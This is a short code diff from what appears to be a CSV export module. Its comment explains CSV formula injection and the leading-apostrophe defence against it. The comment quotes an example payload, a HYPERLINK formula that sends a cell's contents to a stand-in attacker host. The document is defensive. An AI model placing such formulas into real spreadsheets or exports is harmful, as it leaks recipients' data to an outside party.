@@ -17,7 +17,6 @@ from pathlib import Path
 from ..schema import Nested, Schema, Table, load_schema
 from ..validate.validator import Result
 
-
 # What makes a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula, e.g.
 # =HYPERLINK("https://evil.invalid/?d="&A2,"x") in a name. Such text gets a leading apostrophe in the CSV, which a
 # spreadsheet shows as text and hides; numbers and phone numbers ("+45 70 10 20 30", "-3") stay as they are, having
